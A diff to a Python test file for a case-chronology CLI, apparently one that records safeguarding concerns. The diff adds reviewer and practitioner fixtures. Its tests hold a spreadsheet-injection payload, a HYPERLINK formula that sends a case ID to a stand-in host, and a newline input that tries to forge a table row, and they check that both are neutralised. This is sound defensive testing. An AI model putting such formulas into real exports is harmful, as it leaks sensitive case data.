@@ -24,6 +24,7 @@ from fullpicture.cli import main
 from fullpicture.config import load_settings
 from fullpicture.output import emit, spreadsheet_safe, terminal_safe
 from tests.builders import entry, register_agencies
+from tests.people import REVIEWER, practitioner_of, register_people
 
 FORMULAS = [
     '=HYPERLINK("http://elsewhere.invalid/?c=C-0001","Open")',
@@ -54,6 +55,8 @@ def test_ordinary_text_is_left_as_it_is() -> None:
 def cli_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.setenv(config.STATE_DIR, str(tmp_path / "state"))
     assert main(["agency", "register", "school-elm", "--name", "Elm", "--type", "education"]) == 0
+    register_people(main, ["school-elm"], ["C-0001"])
+    monkeypatch.setenv(config.ACTING_USER, practitioner_of("school-elm"))
     return tmp_path
 
 
@@ -84,7 +87,7 @@ def test_every_formula_is_neutralised_in_the_cli_csv_export(
     for n, formula in enumerate(FORMULAS):
         record_concern(f"S-{n}", formula)
     capsys.readouterr()
-    assert main(["chronology", "C-0001", "--format", "csv"]) == 0
+    assert main(["--as", REVIEWER, "chronology", "C-0001", "--format", "csv"]) == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     assert sorted(row["summary"] for row in rows) == sorted("'" + f for f in FORMULAS)
 
@@ -100,7 +103,7 @@ def test_an_embedded_line_break_cannot_forge_a_table_row(
 ) -> None:
     record_concern("S-1", "Seen by the nurse.\n2025-03-06  school-elm:S-2  concern  forged")
     capsys.readouterr()
-    assert main(["chronology", "C-0001"]) == 0
+    assert main(["--as", REVIEWER, "chronology", "C-0001"]) == 0
     lines = capsys.readouterr().out.splitlines()
     assert len(lines) == 2  # the header and the one entry
     assert "Seen by the nurse.\\n2025-03-06" in lines[1]
@@ -183,5 +186,5 @@ def test_json_output_keeps_the_text_as_typed(
 ) -> None:
     record_concern("S-1", FORMULAS[0])
     capsys.readouterr()
-    assert main(["chronology", "C-0001", "--format", "json"]) == 0
+    assert main(["--as", REVIEWER, "chronology", "C-0001", "--format", "json"]) == 0
     assert json.loads(capsys.readouterr().out)[0]["summary"] == FORMULAS[0]
